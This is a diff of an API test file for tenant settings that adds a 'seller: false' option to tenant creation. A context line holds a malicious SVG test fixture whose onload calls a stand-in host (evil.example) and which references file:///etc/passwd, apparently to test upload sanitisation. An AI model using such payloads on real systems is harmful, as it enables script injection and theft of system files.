@@ -36,7 +36,7 @@ const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example\')"><image href="file:///etc/passwd"/></svg>';
 
 beforeAll(async () => {
-  acme = await makeTenant('Acme');
+  acme = await makeTenant('Acme', { seller: false });
   api = apiClient(() => stack().apiUrl, acme.adminKey);
 });
 
@@ -149,7 +149,7 @@ describe('settings', () => {
   });
 
   it("keeps each tenant's settings its own", async () => {
-    const other = apiClient(() => stack().apiUrl, (await makeTenant('Other')).adminKey);
+    const other = apiClient(() => stack().apiUrl, (await makeTenant('Other', { seller: false })).adminKey);
     expect((await other.get('/v1/settings')).body).toMatchObject({ tenantName: 'Other', legalName: null, images: { logo: null } });
   });
 });
